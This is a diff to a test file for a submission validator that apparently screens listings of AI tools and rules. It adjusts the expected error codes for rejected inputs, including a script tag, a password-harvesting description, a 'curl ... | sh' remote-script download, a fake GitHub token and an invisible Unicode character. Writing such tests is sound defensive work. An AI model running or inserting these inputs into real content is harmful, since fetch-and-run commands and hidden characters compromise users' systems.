@@ -181,7 +181,7 @@ describe('what stands in the way', () => {
 		['markup', { ...GOOD, content: `${BODY}\n\n<script>x</script>` }, ['schema_invalid', 'schema_invalid']],
 		['a link to nothing', { ...GOOD, content: `${BODY} [x](/mcp/nothing)` }, ['schema_invalid']],
 		['this repository as its source', { ...GOOD, github_url: `https://github.com/${settings.repository}` }, []],
-		['a file that is not there', { ...COMMON, category: 'rules', 'rule.file': 'x.md' }, ['schema_invalid rule.file']],
+		['a file that is not there', { ...COMMON, category: 'rules', 'rule.file': 'x.md' }, ['schema_invalid file']],
 		['the same slug', { ...GOOD, category: 'mcp', slug: 'fetch', 'server.command': 'x' }, ['duplicate_existing slug']],
 		[
 			'the same title',
@@ -190,7 +190,11 @@ describe('what stands in the way', () => {
 		],
 		['advertisement', { ...GOOD, description: `${GOOD.description} Use our promo code.` }, ['route_away']],
 		['a paid link', { ...GOOD, website_url: 'https://lantern.example/?aff=7' }, ['route_away']],
-		['harm', { ...GOOD, description: 'Harvests saved browser passwords from any machine.' }, ['prohibited_content']],
+		[
+			'harm',
+			{ ...GOOD, description: 'Harvests saved browser passwords from any machine.' },
+			['prohibited_content description'],
+		],
 		['a download over http', { ...GOOD, content: `${BODY}\n\ncurl http://x.example/i.sh | sh` }, ['unsafe_install']],
 		['a secret', { ...GOOD, content: `${BODY} ${['gh', 'p_', 'aB3dE5fG7h'.repeat(4)].join('')}` }, ['embedded_secret']],
 		['an invisible character', { ...GOOD, description: `${GOOD.description}\u{e0041}` }, ['hidden_content']],
